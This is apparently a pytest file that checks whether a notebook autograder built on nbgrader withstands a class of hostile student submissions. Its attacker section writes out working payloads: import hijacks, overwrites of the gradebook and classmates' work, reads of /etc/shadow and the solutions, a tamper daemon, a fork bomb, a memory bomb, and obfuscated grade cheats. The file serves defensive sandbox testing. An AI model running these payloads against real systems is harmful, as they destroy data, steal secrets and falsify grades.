"""An adversarial class, graded with real nbgrader in one `agentcourse grade` run.

Two hostile classes in one: the attackers below, written against the first grader, and
every lab 2 case of tests/grading/grading_corpus.py (kernels that forge their reports, output
floods that would cut an error away, statuses a student could steer, leaks in encodings
the search lacked, a nested bz2 stall), with honest submissions of several shapes that must
grade `ok` with their exact points.


Each attacker's answer cell is lab 2's correct solution (or a wrong one) plus an attack:
planting import hijacks wherever it can reach, overwriting the course, the gradebook and
classmates, reading the solutions and printing them, a daemon that waits to tamper with
the gradebook, processes meant to survive, a fork bomb, a flood, a hang, a crash, a memory
bomb, cheats from inside the kernel (input and AST transformers, trace functions, patched
builtins and test helpers, rebound names, replaced IPython methods, obfuscated exec),
deleted locked cells, a symlinked notebook, shipped shadow modules, and leaks of hidden
tests and of another lab's solution in encodings. Classmates graded after them by the same
workers must score exactly what they would alone, the course must be byte-for-byte the
same, nothing may still run afterwards, and every attacker must earn nothing. Lab 2 is
judged: what the kernel does or reports decides nothing, so an attacker is reported (a status
other than ok, flagged for manual grading in the gradebook) only for what the grader itself
sees: a deleted locked cell, a hang, a crash, a memory bomb, a shadow module, a leak.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import hashlib
import io
import json
import os
import shutil
import site
import time
import zlib
from pathlib import Path

import nbformat
import pytest

from agentcourse.course import nbfile
from agentcourse.grading import nbgrader_io, release, results, summary
from agentcourse.grading import pipeline as grading
from agentcourse.grading.integrity import disguises, leaks
from agentcourse.grading.unchanged import UNCHANGED
from agentcourse.paths import REPO_ROOT
from tests.budget import within
from tests.grading import grading_corpus as corpus

LAB = "lab02"
SOURCE = REPO_ROOT / "solutions" / LAB / f"{LAB}.ipynb"
RELEASE = REPO_ROOT / "labs" / LAB / f"{LAB}.ipynb"
GOOD = next(c.source for c in nbfile.read_notebook(SOURCE).cells if nbfile.grade_id(c) == "run_turn")
BODY = GOOD.split("### BEGIN SOLUTION\n", 1)[1].split("    ### END SOLUTION", 1)[0]
WRONG = GOOD.replace(BODY, "    return ''\n")  # a blank answer: scores 0 unless a cheat helps
FULL = sum(c.points for c in nbfile.grade_cells(nbfile.read_notebook(SOURCE)))
# Lab 2 is judged, as every lab graded: its test cells run in the judge, so nothing the
# kernel does decides a grade or holds a hidden line; its attacks earn nothing and most
# leave nothing to report.
assert nbfile.lab_meta(nbfile.read_notebook(SOURCE)).get("judge")


MARK = "31415"  # in the argv of every process an attacker starts, to find survivors


def notebook(folder: Path, answer: str | dict | None, edit=None, markdown: tuple[str, ...] = (),
             release: Path = RELEASE) -> Path:
    """The release with answer cells replaced (a source for run_turn, or grade_id -> source)
    and markdown cells added after the last of them."""
    nb = nbfile.read_notebook(release)
    answers = {"run_turn": answer} if isinstance(answer, str) else dict(answer or {})
    last = 0
    for index, cell in enumerate(nb.cells):
        if nbfile.grade_id(cell) in answers:
            cell.source = answers[nbfile.grade_id(cell)]
            last = index
    for k, text in enumerate(markdown):
        cell = nbformat.v4.new_markdown_cell(text)
        cell["id"] = f"my-notes-{k}"
        nb.cells.insert(last + 1 + k, cell)
    if edit:
        edit(nb)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / release.name
    nbfile.write_notebook(nb, path)
    return path


def fingerprint(*roots: Path) -> dict[str, str]:
    """Every file under the roots (links not followed), with a hash of its bytes."""
    out = {}
    for root in roots:
        for path in sorted(root.rglob("*")):
            if ".grading" in path.parts or "__pycache__" in path.parts:
                continue
            if path.is_symlink():
                out[str(path)] = "link:" + os.readlink(path)
            elif path.is_file():
                out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def survivors(course: Path) -> list[str]:
    """Processes an attacker started, and sandboxes of this class still running (other
    tests may be grading at the same time: only this course's count)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if MARK in cmd or (str(course) in cmd and ("bwrap" in cmd or "grade_worker" in cmd)):
            found.append(f"{pid}: {cmd[:120]}")
    return found


def attackers(paths: dict[str, str]) -> dict[str, str]:
    """student -> the source of their answer cell."""
    p = json.dumps(paths)
    vandal = WRONG + f'''
import base64, os, subprocess, sqlite3
P = {p}
report = []
for folder in [os.getcwd(), os.path.dirname(os.getcwd()), P["solutions"], P["course"], P["repo"],
               P["site"], P["package"], os.path.expanduser("~/.ipython/profile_default/startup"),
               P["subs"], "/tmp", os.path.expanduser("~")]:
    for name in ("anthropic.py", "sitecustomize.py", "zz_hijack.pth", "00-hijack.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as f:
                f.write("raise SystemExit('hijacked')\\n")
            report.append("planted " + folder)
        except OSError as err:
            report.append("blocked " + folder)
for path in [P["source"], P["classmate"], P["gradebook"], P["csv"], P["config"]]:
    try:
        with open(path, "w") as f:
            f.write("{{}}")
        report.append("overwrote " + path)
    except OSError:
        report.append("blocked " + path)
for path in [P["source"], P["walkthrough"], P["gradebook"], P["classmate"], "/etc/shadow", P["home"]]:
    try:
        print(base64.b64encode(open(path, "rb").read()[:4000]).decode())
    except OSError:
        report.append("unreadable " + path)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        for _ in range(300):
            time.sleep(0.1)
            try:
                con = sqlite3.connect(P["gradebook"]); con.execute("update grade set manual_score=100"); con.commit()
            except Exception:
                pass
            try:
                open(P["csv"], "a").write("a-vandal,ok,10,10\\n")
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
subprocess.Popen(["nohup", "sleep", "{MARK}1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["setsid", "sleep", "{MARK}2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen("sleep {MARK}3 & disown", shell=True)
print("\\n".join(report))
'''
    forkbomb = WRONG + '''
import os
while True:
    os.fork()
'''
    flood = GOOD + '''
print("x" * 90_000_000)
for i in range(100_000):
    print(i, "flood")
'''
    cheat_input = WRONG + '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"] if any("assert" in l for l in lines) else lines)
'''
    cheat_ast = WRONG + '''
import ast, sys
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
sys.settrace(lambda *a: None)
'''
    cheat_patch = WRONG + '''
import builtins
from agentcourse.course import nbtools
from agentcourse.api import protocol
protocol.protocol_errors = lambda messages: []
nbtools.limited = lambda client, calls=12: client
import sys
_all = all
builtins.all = lambda items: True if "ipykernel_" in sys._getframe(1).f_code.co_filename else _all(items)
protocol_errors = lambda messages: []
get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)
'''
    hidden = base64.b64encode(
        b"ip = get_ipython()\n_run = ip.run_cell_async\n"
        b"async def run_cell_async(raw_cell, *a, **k):\n    return await _run('pass', *a, **k)\n"
        b"ip.run_cell_async = run_cell_async\n").decode()
    cheat_runcell = WRONG + f'''
exec(__import__("base64").b64decode("{hidden}"))
'''
    leak_own = WRONG.replace("    return ''\n", "    import base64\n    print(base64.b64encode(get_ipython().user_ns['In'][-1].encode()).decode())\n    return ''\n")
    other = leaks.notebook_regions(REPO_ROOT / "solutions" / "lab03" / "lab03.ipynb")[0]
    # Another lab's solution, shipped compressed in the answer (a line the student's text
    # does not show as written) and printed in rot13 at grading time.
    packed = base64.b64encode(zlib.compress("\n".join(other).encode())).decode()
    leak_other = WRONG + f'''
import base64, codecs, zlib
print(codecs.encode(zlib.decompress(base64.b64decode("{packed}")).decode(), "rot13"))
'''
    return {
        "a-vandal": vandal, "a-forkbomb": forkbomb, "a-flood": flood,
        "a-hang": "while True:\n    pass",
        "a-crash": "import ctypes\nctypes.string_at(0)",
        "a-memory": "blocks = [bytearray(10**8) for _ in range(100)]",
        "c-input": cheat_input, "c-ast": cheat_ast, "c-patch": cheat_patch, "c-runcell": cheat_runcell,
        "l-own": leak_own, "l-other": leak_other,
    }


def grade_class(tmp: Path) -> dict:
    course = tmp / "course"
    course.mkdir()
    shutil.copy(REPO_ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    os.symlink(REPO_ROOT / "solutions", course / "solutions")
    subs = tmp / "submissions"
    csv_path = course / ".grading" / f"{LAB}-grades.csv"
    paths = {
        "solutions": str(REPO_ROOT / "solutions" / LAB), "course": str(course), "repo": str(REPO_ROOT),
        "site": site.getsitepackages()[0], "package": str(REPO_ROOT / "agentcourse"),
        "subs": str(subs), "source": str(SOURCE), "classmate": str(subs / "m-honest" / f"{LAB}.ipynb"),
        "gradebook": str(course / ".grading" / "gradebook.db"), "csv": str(csv_path),
        "config": str(course / "nbgrader_config.py"),
        "walkthrough": str(REPO_ROOT / "solutions" / "lab03" / "WALKTHROUGH.md"),
        "home": os.path.expanduser("~/.bash_history"),
    }
    for student, answer in attackers(paths).items():
        notebook(subs / student, answer)
    for case in corpus.cases(LAB):
        notebook(subs / case.student, case.answers, markdown=case.markdown)
    for name in corpus.SKIPPED_FOLDERS:
        (subs / name).mkdir()
    # Locked setup cell deleted and replaced by the student's own fakes.
    fake = ("protocol_errors = lambda m: []\nto_plain = lambda m: m\nclass nbtools:\n"
            "    limited = staticmethod(lambda c, calls=12: c)\nclient = None\n")

    def drop_setup(nb):
        nb.cells = [c for c in nb.cells if nbfile.grade_id(c) != "setup"]
        nb.cells.insert(1, nbformat_cell(fake))
    notebook(subs / "d-deleted", WRONG, edit=drop_setup)
    (subs / "d-symlink").mkdir()
    os.symlink(SOURCE, subs / "d-symlink" / f"{LAB}.ipynb")
    notebook(subs / "d-shadow", WRONG)
    (subs / "d-shadow" / "anthropic.py").write_text("raise SystemExit('shadowed')\n")
    (subs / "d-shadow" / "agentcourse").mkdir()
    (subs / "d-shadow" / "agentcourse" / "__init__.py").write_text("raise SystemExit('shadowed')\n")
    (subs / "e-empty").mkdir()
    (subs / ".git").mkdir()
    (subs / "bad name").mkdir()

    watched = [REPO_ROOT / "solutions", REPO_ROOT / "labs", REPO_ROOT / "agentcourse",
               Path(site.getsitepackages()[0]), course]
    before_course = fingerprint(*watched)
    before_subs = fingerprint(subs)
    config = results.GradeConfig(jobs=2, cell_timeout=int(within(15)), property_examples=2, course_root=course)
    started = time.monotonic()
    report = grading.grade(LAB, subs, config)
    if any(r.status == "timeout" for r in report.results if r.student != "a-hang"):
        report = graded_again(report, grading.grade(LAB, subs, config))
    summary.write_csv(report, csv_path)
    elapsed = time.monotonic() - started
    return {"report": report, "course": course, "subs": subs, "csv": csv_path, "elapsed": elapsed,
            "before_course": before_course, "before_subs": before_subs, "watched": watched}


def graded_again(first, second):
    """A cell's timeout is wall time, and once, beside the whole suite, the memory bomb's cell
    got no reply within it (the cause did not reproduce: not CPU starvation alone). A timeout
    may be the machine's, and INSTRUCTORS.md's remedy is to grade the class again, which grades
    anew every such status (a timeout, a dead kernel, an error) and keeps the rest: their results
    from the second run replace the first's. A grader that always times out still fails."""
    again = {r.student: r for r in second.results if r.detail != UNCHANGED}
    return dataclasses.replace(first, results=[again.get(r.student, r) for r in first.results])


def nbformat_cell(source: str):
    import nbformat

    cell = nbformat.v4.new_code_cell(source)
    cell.pop("id", None)
    cell["id"] = "fake-setup"
    return cell


def by_student(graded) -> dict:
    return {r.student: r for r in graded["report"].results}


def check_classmates_score_exactly_as_alone(graded):
    results = by_student(graded)
    assert (results["m-honest"].status, results["m-honest"].total) == ("ok", FULL), results["m-honest"]


def check_every_corpus_case_gets_its_status_points_and_reasons(graded):
    """Honest submissions: `ok` and their exact points. Attacks: the status that names
    them, their exact points where it matters, and the reasons in the findings."""
    results = by_student(graded)
    wrong = []
    for case in corpus.cases(LAB):
        r = results[case.student]
        review = " | ".join(r.review)
        said = f"{r.status} {r.total:g} | {r.detail} | {review}"
        if r.status != case.status or (case.points is not None and r.total != case.points):
            wrong.append(f"{case.student}: wanted {case.status} {case.points}, got {said}")
        elif not all(word in review for word in case.review) or not all(
                word in r.detail + review for word in case.detail):
            wrong.append(f"{case.student}: wanted {case.review + case.detail} in the reasons, got {said}")
    assert not wrong, "\n".join(wrong)


def check_the_summary_prints_whatever_students_named_or_printed(graded):
    from rich.console import Console

    out = io.StringIO()
    summary.print_report(Console(file=out, width=300), graded["report"])
    text = out.getvalue()
    for name in corpus.SKIPPED_FOLDERS:
        assert repr(name) in text
    assert "k-session-class" in text
    assert "flooded" not in text, "a long print is cut, not a finding"


def check_findings_are_recorded_whatever_the_status(graded):
    rows = {row["student"]: row for row in csv.DictReader(graded["csv"].open())}
    assert rows["d-deleted"]["status"] == "review" and "deleted: setup" in rows["d-deleted"]["review"]
    assert rows["l-bomb-printed"]["status"] == "withheld" and "limit" in rows["l-bomb-printed"]["detail"]
    with nbgrader_io.gradebook("sqlite:///" + str(graded["course"] / ".grading" / "gradebook.db")) as gb:
        notes = {s.student.id: " ".join(c.auto_comment or "" for nb in s.notebooks for c in nb.comments)
                 for s in gb.assignment_submissions(LAB)}
    assert "status: timeout" in notes["a-hang"] and leaks.REVIEW_NOTE not in notes["m-honest"]
    assert leaks.REVIEW_NOTE in notes["d-deleted"]


def check_every_attacker_is_reported_and_flagged(graded):
    """Every attack starts from a blank answer, or the solution (a-flood): no point unearned;
    a submission is flagged for a person exactly when its status is not ok."""
    results = by_student(graded)
    attackers_ = [s for s in results if s[:2] in ("a-", "c-", "l-", "d-", "k-", "s-")]
    assert len(attackers_) >= 30
    assert {s: results[s].total for s in attackers_ if results[s].total != (FULL if s == "a-flood" else 0)} == {}
    with nbgrader_io.gradebook("sqlite:///" + str(graded["course"] / ".grading" / "gradebook.db")) as gb:
        subs = {s.student.id: s for s in gb.assignment_submissions(LAB)}
        for student in attackers_:
            assert subs[student].needs_manual_grade == (results[student].status != "ok"), student
        assert not subs["m-honest"].needs_manual_grade
        assert "e-empty" not in subs, "an empty folder submitted nothing: not in formgrader's queue"


def check_each_attack_gets_the_status_that_names_it(graded):
    r = by_student(graded)
    assert r["a-hang"].status == "timeout"
    assert r["a-crash"].status == "kernel died"
    assert r["a-memory"].status == "out of memory"
    assert r["d-symlink"].status == "error" and "not a regular file" in r["d-symlink"].detail
    assert r["e-empty"].status == "missing"
    assert graded["report"].skipped.keys() == {".git", "bad name", *corpus.SKIPPED_FOLDERS}
    review = {s: " | ".join(r[s].review) for s in r}
    assert "locked cell(s) deleted: setup" in review["d-deleted"]
    assert "ships code the lab does not declare" in review["d-shadow"]
    # a flood is cut and graded; what the kernel did to itself decides nothing
    assert (r["a-flood"].status, r["a-flood"].total) == ("ok", FULL), r["a-flood"]
    assert r["l-other"].status == "withheld", "another lab's hidden text, in its reach, is still held"
    assert all(r[s].status == "ok" and r[s].total == 0 for s in ("c-input", "c-ast", "c-patch", "c-runcell",
                                                                   "a-vandal", "l-own")), r


def check_course_classmates_and_gradebook_are_untouched(graded):
    time.sleep(2)  # a daemon that outlived its kernel would strike now
    assert fingerprint(*graded["watched"]) == graded["before_course"]
    assert fingerprint(graded["subs"]) == graded["before_subs"]
    assert survivors(graded["course"]) == []
    rows = list(csv.DictReader(graded["csv"].open()))
    assert [r["student"] for r in rows if r["student"] == "a-vandal"] == ["a-vandal"]
    with nbgrader_io.gradebook("sqlite:///" + str(graded["course"] / ".grading" / "gradebook.db")) as gb:
        vandal = gb.find_submission(LAB, "a-vandal")
        assert all(g.manual_score is None for nb in vandal.notebooks for g in nb.grades)


def check_no_feedback_page_shows_a_secret_even_after_plain_nbgrader(graded):
    """Plain nbgrader writes no page for a student in review, withheld or error, and keeps
    none from before; every page it writes lets no script run and, as rendered, searched
    again with the student's own text set aside, shows no secret."""
    course = graded["course"]
    started = time.monotonic()
    done = nbgrader_io.run_nbgrader(course, "generate_feedback", LAB, "--force")
    assert time.monotonic() - started < within(600), "plain nbgrader finishes the class"
    assert done.returncode == 0, done.stderr[-3000:]
    assert f"feedback of l-other for {LAB} not released: status withheld" in done.stderr
    secrets = leaks.secret_lines((REPO_ROOT / "solutions").resolve(), LAB)
    pages = sorted((course / ".grading" / "feedback").rglob("*.html"))
    status = {r.student: r.status for r in graded["report"].results}
    held = {"l-other", "l-bomb-printed"}
    assert held <= {s for s in status if status[s] == "withheld"}
    graded_ = {s for s in status if (course / ".grading" / "autograded" / s / LAB / f"{LAB}.ipynb").is_file()}
    assert {p.parent.parent.name for p in pages} == {s for s in graded_ if status[s] in release.RELEASED}
    assert len(pages) >= 10
    for page in pages:
        student = page.parent.parent.name
        raw = page.read_text(encoding="utf-8")
        assert release.CSP_META in raw.split("</head>", 1)[0] and "<script" not in raw.lower(), page
        submitted = nbfile.read_notebook(course / ".grading" / "submitted" / student / LAB / f"{LAB}.ipynb")
        own = "\n".join(c.source for c in submitted.cells)
        try:
            assert leaks.find_leaks([leaks.html_text(raw)], leaks.not_theirs(secrets, own)) == [], page
        except disguises.SearchLimit:  # the page shows the student's own nested bz2 line, or
            # an honest student's long prints: more text than the search reads
            assert student in ("l-bomb-markdown", "o-long-prints"), page


@pytest.mark.slow
def test_a_hostile_class_is_graded_fairly_and_every_attack_reported(tmp_path):
    """One grading run for the whole class (a fixture would run once per xdist worker)."""
    graded = grade_class(tmp_path)
    check_every_corpus_case_gets_its_status_points_and_reasons(graded)
    check_the_summary_prints_whatever_students_named_or_printed(graded)
    check_findings_are_recorded_whatever_the_status(graded)
    check_classmates_score_exactly_as_alone(graded)
    check_every_attacker_is_reported_and_flagged(graded)
    check_each_attack_gets_the_status_that_names_it(graded)
    check_course_classmates_and_gradebook_are_untouched(graded)
    check_no_feedback_page_shows_a_secret_even_after_plain_nbgrader(graded)
